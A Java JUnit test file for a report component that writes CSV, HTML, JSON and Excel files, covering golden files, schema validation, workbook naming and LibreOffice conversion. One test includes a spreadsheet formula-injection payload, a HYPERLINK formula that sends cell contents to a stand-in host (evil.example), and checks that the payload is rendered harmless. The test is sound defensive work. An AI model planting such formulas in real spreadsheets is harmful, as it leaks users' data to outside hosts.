package dev.paperclick.reports.files;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.networknt.schema.InputFormat;
import com.networknt.schema.Schema;
import com.networknt.schema.SchemaRegistry;
import com.networknt.schema.SpecificationVersion;
import dev.paperclick.RealOffice;
import dev.paperclick.platform.UserProblem;
import dev.paperclick.reports.Report;
import dev.paperclick.reports.ReportFiles;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.function.Supplier;
import java.util.stream.Stream;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.DataFormatter;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFTable;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledOnOs;
import org.junit.jupiter.api.condition.OS;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The formats of reports, as people and programs rely on them.
 *
 * <p>After a wanted change: {@code mvn test -Dtest=ReportFormatTests -Dgolden.update}, and read the difference.
 */
class ReportFormatTests {

    private static final Path GOLDEN = Path.of("src/test/resources/golden/reports");
    private static final ReportFiles FILES =
            new ReportFiles(List.of(new XlsxReport(), new HtmlReport(), new CsvReport(), new JsonReport()));

    @TempDir
    Path folder;

    @ParameterizedTest
    @ValueSource(strings = {"csv", "html", "json", "xlsx"})
    void areAsTheyWere(String format) throws IOException {
        Path golden = GOLDEN.resolve("candidate." + (format.equals("xlsx") ? "xlsx.txt" : format));
        byte[] bytes = bytes(SampleReports.aCandidate(), format);
        String text = format.equals("xlsx") ? cells(bytes) : new String(bytes, StandardCharsets.UTF_8);
        // how wide text is depends on the fonts of the machine
        String comparable = text.replaceAll("(?s)<svg .*?</svg>", "<svg></svg>");
        if (System.getProperty("golden.update") != null) {
            Files.createDirectories(GOLDEN);
            Files.writeString(golden, comparable);
        }

        assertThat(comparable).isEqualTo(Files.readString(golden));
    }

    static Stream<Named<Supplier<Report>>> reports() {
        return SameNumbersTests.reports();
    }

    @ParameterizedTest
    @MethodSource("reports")
    void jsonKeepsToItsSchema(Supplier<Report> report) throws IOException {
        try (InputStream text = Report.class.getResourceAsStream("/report/report.schema.json")) {
            Schema schema = SchemaRegistry.withDefaultDialect(SpecificationVersion.DRAFT_2020_12)
                    .getSchema(text);
            String json = new String(bytes(report.get(), "json"), StandardCharsets.UTF_8);

            assertThat(schema.validate(json, InputFormat.JSON)).isEmpty();
            assertThat(schema.validate(json.replace("\"total_clicks\" : ", "\"total_clicks\" : -"), InputFormat.JSON))
                    .as("a schema that finds what is wrong")
                    .hasSameSizeAs(json.contains("\"total_clicks\" : 0") ? List.of() : List.of(1));
        }
    }

    @Test
    void csvHasAColumnForEverythingAndItsDescriptionNamesThemAll() throws IOException {
        String description = Files.readString(Path.of("docs/report-format.md"));
        Set<String> keys = new HashSet<>();
        Views.of(SampleReports.aFirm()).all().forEach(view -> view.columns().forEach(column -> keys.add(column.key())));

        assertThat(CsvReport.HEADER).containsAll(keys).doesNotHaveDuplicates();
        assertThat(CsvReport.HEADER)
                .allSatisfy(column -> assertThat(description).contains("`" + column + "`"));
    }

    @ParameterizedTest
    @MethodSource("reports")
    void workbooksHaveNamesThatExcelTakes(Supplier<Report> report) throws IOException {
        Set<String> tables = new HashSet<>();
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(bytes(report.get(), "xlsx")))) {
            for (Sheet sheet : workbook) {
                assertThat(sheet.getSheetName()).hasSizeLessThan(32).doesNotContainPattern("[\\[\\]:*?/\\\\]");
                for (XSSFTable table : workbook.getSheet(sheet.getSheetName()).getTables()) {
                    assertThat(tables.add(table.getDisplayName())).isTrue();
                    assertThat(table.getDisplayName()).matches("[a-z_]{2,}");
                    assertThat(table.getColumns().stream()
                                    .map(column -> column.getName().toLowerCase(Locale.ROOT)))
                            .doesNotHaveDuplicates();
                    assertThat(table.getColumns().stream().map(column -> column.getName()))
                            .containsExactlyElementsOf(headers(sheet));
                    assertThat(table.getEndRowIndex()).isEqualTo(Math.max(1, sheet.getLastRowNum()));
                    assertThat(sheet.getPaneInformation().isFreezePane()).isTrue();
                }
            }
        }
        assertThat(tables).hasSizeGreaterThan(12);
    }

    @Test
    void libreOfficeReadsTheWorkbookAsItWasMeant() throws IOException, InterruptedException {
        Path office = RealOffice.orSkip();
        FILES.write(SampleReports.hostile(), folder.resolve("report.xlsx"));
        Process process = new ProcessBuilder(
                        office.toString(),
                        "-env:UserInstallation=" + folder.resolve("office").toUri(),
                        "--headless",
                        "--convert-to",
                        "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
                        "--outdir",
                        folder.toString(),
                        folder.resolve("report.xlsx").toString())
                .redirectErrorStream(true)
                .redirectOutput(folder.resolve("said.txt").toFile())
                .start();
        assertThat(process.waitFor()).isZero();

        List<String> lines = Files.readAllLines(folder.resolve("report-Applications.csv"));
        assertThat(lines).hasSize(31);
        assertThat(lines.get(1))
                .startsWith(
                        "\"=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\",Lifecycle Marketing Manager")
                .contains(",2026-11-19,12,6,0,0,2,12,2026-11-20 07:00");
        assertThat(Files.readString(folder.resolve("report-Overview.csv")))
                .contains("Applications sent", "30,,10,,64,,41,,3,,1", "By machines,,,,,19");
    }

    @Test
    void anUnknownFormatIsNamedWithThoseThatThereAre() {
        assertThatThrownBy(() -> FILES.write(SampleReports.empty(), folder.resolve("report.pdf")))
                .isInstanceOf(UserProblem.class)
                .hasMessage("Reports cannot be written as 'pdf'; formats are csv, html, json, xlsx.");
        assertThat(folder).isEmptyDirectory();
    }

    /** Elsewhere there are always fonts. */
    @Test
    @EnabledOnOs(OS.LINUX)
    void aPageIsMadeOnAMachineWithoutFontsAndSaysWhyItHasNoCharts() throws IOException, InterruptedException {
        Path fonts = Files.writeString(folder.resolve("none.conf"), "<fontconfig><dir>/nonexistent</dir></fontconfig>");
        Path page = folder.resolve("report.html");
        List<String> command = new ArrayList<>();
        command.add(Path.of(System.getProperty("java.home"), "bin", "java").toString());
        // it remembers fonts there
        command.add("-Duser.home=" + folder);
        command.add("-Djava.awt.headless=true");
        command.addAll(List.of("-cp", System.getProperty("java.class.path")));
        command.addAll(List.of(PageMain.class.getName(), page.toString()));
        ProcessBuilder builder = new ProcessBuilder(command)
                .redirectErrorStream(true)
                .redirectOutput(folder.resolve("said.txt").toFile());
        builder.environment().put("FONTCONFIG_FILE", fonts.toString());

        assertThat(builder.start().waitFor()).as(() -> said(folder)).isZero();

        assertThat(Files.readString(page))
                .contains("The chart could not be drawn: this machine has no fonts.")
                .contains("48 applications were sent")
                .doesNotContain("<svg");
    }

    private static String said(Path folder) {
        try {
            return Files.readString(folder.resolve("said.txt"));
        } catch (IOException e) {
            return e.toString();
        }
    }

    /** Writes a page to the file that it is given. */
    static final class PageMain {
        public static void main(String[] arguments) throws IOException {
            FILES.write(SampleReports.aFirm(), Path.of(arguments[0]));
        }
    }

    private static List<String> headers(Sheet sheet) {
        return Stream.iterate(0, column -> column + 1)
                .limit(sheet.getRow(0).getLastCellNum())
                .map(column -> sheet.getRow(0).getCell(column).getStringCellValue())
                .toList();
    }

    private static String cells(byte[] bytes) throws IOException {
        DataFormatter formatter = new DataFormatter(Locale.ENGLISH);
        StringBuilder text = new StringBuilder();
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(bytes))) {
            for (Sheet sheet : workbook) {
                text.append("== ").append(sheet.getSheetName()).append('\n');
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        text.append(cell.getColumnIndex() == 0 ? "" : "\t").append(formatter.formatCellValue(cell));
                    }
                    text.append('\n');
                }
            }
        }
        return text.toString();
    }

    private static byte[] bytes(Report report, String format) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        FILES.write(report, format, out);
        return out.toByteArray();
    }
}
